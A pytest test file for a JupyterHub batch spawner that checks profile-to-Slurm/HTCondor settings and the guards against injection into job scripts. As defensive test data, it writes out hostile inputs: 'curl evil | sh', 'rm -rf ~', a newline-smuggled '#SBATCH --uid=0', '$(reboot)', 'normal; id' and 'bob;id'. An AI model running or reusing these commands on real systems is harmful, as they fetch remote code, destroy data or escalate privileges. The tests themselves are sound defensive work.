"""Profile -> backend settings (pure functions, as tables), and the batch guards.

The guards run batchspawner's real code with real commands (``sh -c ...``)
standing in for ``squeue`` answers; the Slurm tests do the same against a
real Slurm.
"""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from batchspawner.api import BatchSpawnerAPIHandler
from jupyterhub import apihandlers

from jhub_af.demo import DEMO_PROFILES, SLURM_EXAMPLE
from jhub_af.spawner import install_job_callback, parse_catalogue, select
from jhub_af.spawner.batch_settings import condor_settings, slurm_settings, walltime
from jhub_af.spawner.callback import JobCallbackHandler
from jhub_af.spawner.condor import GuardedCondorSpawner
from jhub_af.spawner.local import local_settings
from jhub_af.spawner.slurm import GuardedSlurmSpawner

CATALOGUE = parse_catalogue([*DEMO_PROFILES, SLURM_EXAMPLE])
GPU_SLURM = parse_catalogue(
    [
        {
            "slug": "gpu",
            "backend": "slurm",
            "resources": {"cores": 8, "memory": "64G"},
            "accelerator": {"type": "p100", "count": 2},
            "slurm": {"partition": "gpu", "walltime_hours": 48},
        }
    ]
)


def _sel(options, catalogue=CATALOGUE):
    return select(options, catalogue, ["/atlas", "/atlas/users"], admin=True)


LOCAL = [
    ({"profile": "default"}, {"cpu_limit": 1.0, "mem_limit": "2G"}),
    ({"profile": "large"}, {"cpu_limit": 4.0, "mem_limit": "8G"}),
]


@pytest.mark.parametrize(("options", "expected"), LOCAL)
def test_local_settings(options, expected):
    settings = local_settings(_sel(options))
    assert {k: settings[k] for k in expected} == expected


SLURM = [
    (
        "example defaults",
        {"profile": "hpc"},
        CATALOGUE,
        {
            "req_partition": "batch",
            "req_account": "atlas",
            "req_qos": "interactive",
            "req_runtime": "0-04:00:00",
            "req_nprocs": "4",
            "req_memory": "16G",
            "req_gres": "",
            "req_prologue": "export PATH=/cvmfs/sft.cern.ch/lcg/views/LCG_107/"
            "x86_64-el9-gcc13-opt/bin:$PATH",
        },
    ),
    (
        "chosen partition and walltime",
        {"profile": "hpc", "partition": "gpu", "walltime": 12},
        CATALOGUE,
        {"req_partition": "gpu", "req_runtime": "0-12:00:00"},
    ),
    (
        "GPUs as gres, days in the walltime",
        {"profile": "gpu"},
        GPU_SLURM,
        {
            "req_partition": "gpu",
            "req_gres": "gpu:p100:2",
            "req_runtime": "2-00:00:00",
            "req_nprocs": "8",
            "req_memory": "64G",
            "req_account": "",
            "req_qos": "",
        },
    ),
]


@pytest.mark.parametrize(
    ("options", "catalogue", "expected"), [s[1:] for s in SLURM], ids=[s[0] for s in SLURM]
)
def test_slurm_settings(options, catalogue, expected):
    settings = slurm_settings(_sel(options, catalogue))
    assert {k: settings[k] for k in expected} == expected


@pytest.mark.parametrize(
    ("hours", "text"),
    [(1, "0-01:00:00"), (23, "0-23:00:00"), (24, "1-00:00:00"), (50, "2-02:00:00")],
)
def test_walltime_format(hours, text):
    assert walltime(hours) == text


CONDOR = [
    ({"profile": "hpc"}, CATALOGUE, {"req_nprocs": "4", "req_memory": "16384", "req_ngpus": ""}),
    (
        {"profile": "gpu"},
        GPU_SLURM,
        {"req_nprocs": "8", "req_memory": "65536", "req_ngpus": "2"},
    ),
]


@pytest.mark.parametrize(("options", "catalogue", "expected"), CONDOR)
def test_condor_settings(options, catalogue, expected):
    settings = condor_settings(_sel(options, catalogue))
    assert {k: settings[k] for k in expected} == expected


def _slurm_spawner(**traits) -> GuardedSlurmSpawner:
    # the batch guards read only the user's name; the rest comes from traits
    user = SimpleNamespace(name=traits.pop("username", "root"))
    base = {"req_homedir": "/tmp", "req_keepvars": "PATH", "exec_prefix": ""}
    return GuardedSlurmSpawner(user=user, **{**base, **traits})


async def test_job_script_holds_the_profile_values_and_nothing_from_user_options():
    spawner = _slurm_spawner(
        **slurm_settings(_sel({"profile": "hpc", "walltime": 2})),
        cmd=["jupyterhub-singleuser"],
        batchspawner_singleuser_cmd="batchspawner-singleuser",
    )
    spawner.user_options = {"profile": "hpc", "prologue": "curl evil | sh", "cmd": "rm -rf ~"}
    subvars = spawner.get_req_subvars()
    subvars.update(spawner.user_options)  # what batchspawner's submit_batch_script does
    script = await spawner._get_batch_script(**subvars)
    for line in [
        "#SBATCH --partition=batch\n",
        "#SBATCH --account=atlas\n",
        "#SBATCH --qos=interactive\n",
        "#SBATCH --time=0-02:00:00\n",
        "#SBATCH --cpus-per-task=4\n",
        "#SBATCH --mem=16G\n",
        "srun batchspawner-singleuser jupyterhub-singleuser",
    ]:
        assert line in script
    assert "evil" not in script and "rm -rf" not in script


@pytest.mark.parametrize(
    ("traits", "message"),
    [
        ({"req_partition": "debug\n#SBATCH --uid=0"}, "req_partition holds unsafe characters"),
        ({"req_qos": "normal; id"}, "req_qos holds unsafe characters"),
        ({"req_memory": "$(reboot)"}, "req_memory holds unsafe characters"),
        ({"username": "bob;id"}, "The user name 'bob;id' cannot be used on the batch system"),
    ],
)
def test_unsafe_values_never_reach_a_command_or_script(traits, message):
    spawner = _slurm_spawner(**traits)
    with pytest.raises(RuntimeError, match=message.replace("(", r"\(")):
        spawner.get_req_subvars()


SSH_DOWN = "sh -c 'echo ssh: connect to host hpc-login port 22: Connection timed out >&2; exit 255'"
GONE = "sh -c 'echo slurm_load_jobs error: Invalid job id specified >&2; exit 1'"


async def test_failed_squeue_keeps_the_server_until_the_limit():
    spawner = _slurm_spawner(batch_query_cmd=SSH_DOWN, query_failure_limit=3)
    spawner.job_id = "42"
    assert [await spawner.poll() for _ in range(2)] == [None, None]
    assert spawner.job_id == "42"
    assert await spawner.poll() == 1  # the third failure in a row gives up


async def test_slurm_saying_the_job_is_gone_ends_the_server_at_once():
    spawner = _slurm_spawner(batch_query_cmd=GONE)
    spawner.job_id = "42"
    assert await spawner.poll() == 1
    assert spawner.job_id == ""


async def test_a_good_answer_resets_the_failure_count():
    spawner = _slurm_spawner(batch_query_cmd=SSH_DOWN, query_failure_limit=2)
    spawner.job_id = "42"
    assert await spawner.poll() is None
    spawner.batch_query_cmd = "echo RUNNING localhost"
    assert await spawner.poll() is None
    spawner.batch_query_cmd = SSH_DOWN
    assert await spawner.poll() is None


async def test_condor_job_description_is_built_from_the_profile_only():
    sel = _sel({"profile": "gpu"}, GPU_SLURM)
    spawner = GuardedCondorSpawner(
        user=SimpleNamespace(name="root"),
        req_homedir="/home/root",
        req_keepvars="PATH",
        exec_prefix="",
        cmd=["jupyterhub-singleuser"],
        **condor_settings(sel),
    )
    subvars = spawner.get_req_subvars()
    subvars.update({"cmd": "sh -c evil", "options": "+Evil = True"})
    description = await spawner._get_batch_script(**subvars)
    assert "RequestMemory = 65536\n" in description
    assert "RequestCpus = 8\n" in description
    assert "request_GPUs = 2\n" in description
    assert "Evil" not in description


JOB_CALLBACK = r"/api/batchspawner"


def test_install_job_callback_puts_the_guarded_handler_in_place_of_batchspawners(monkeypatch):
    other = (r"/api/info", object)
    monkeypatch.setattr(
        apihandlers, "default_handlers", [other, (JOB_CALLBACK, BatchSpawnerAPIHandler)]
    )
    install_job_callback()
    install_job_callback()  # a config read twice changes nothing more
    assert apihandlers.default_handlers == [other, (JOB_CALLBACK, JobCallbackHandler)]


async def test_a_batch_job_is_refused_on_a_hub_whose_config_did_not_guard_the_callback(
    monkeypatch, tmp_path
):
    # what a hub config without install_job_callback() leaves: batchspawner's handler
    monkeypatch.setattr(apihandlers, "default_handlers", [(JOB_CALLBACK, BatchSpawnerAPIHandler)])
    submitted = tmp_path / "submitted"
    spawner = _slurm_spawner(batch_submit_cmd=f"touch {submitted}")
    with pytest.raises(RuntimeError) as refused:
        await spawner.start()
    assert str(refused.value) == (
        "This hub does not guard the batch job's call-back, so it refuses to submit batch "
        "jobs: the facility's admin must add `from jhub_af.spawner import "
        "install_job_callback; install_job_callback()` to jupyterhub_config.py "
        "(see docs/admin/profiles.md)."
    )
    assert not submitted.exists()
